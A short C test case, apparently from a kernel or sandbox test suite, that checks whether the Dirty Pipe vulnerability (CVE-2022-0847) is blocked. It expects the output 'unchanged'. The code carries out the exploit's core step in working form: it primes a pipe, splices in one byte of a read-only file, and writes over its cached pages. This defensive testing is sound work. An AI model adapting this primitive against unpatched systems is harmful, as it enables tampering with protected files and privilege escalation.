/*
 * attack: writes into the pages of a read-only file by way of a pipe (CVE-2022-0847, "dirty pipe")
 * run: --wall 5
 * expected: exited
 * prints: ^unchanged$
 * hides: ^changed$
 */
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

int main(int count, char **arguments)
{
    static char block[4096], before[64], after[64];
    int ends[2], fd = open(arguments[0], O_RDONLY);
    off_t offset = 1;

    pipe(ends);
    for (int i = 0; i < 16; i++)
        write(ends[1], block, sizeof(block));
    for (int i = 0; i < 16; i++)
        read(ends[0], block, sizeof(block));
    pread(fd, before, sizeof(before), 0);
    splice(fd, &offset, ends[1], NULL, 1, 0);
    write(ends[1], "overwritten", 11);
    pread(fd, after, sizeof(after), 0);
    puts(memcmp(before, after, sizeof(before)) == 0 ? "unchanged" : "changed");
    return 0;
}
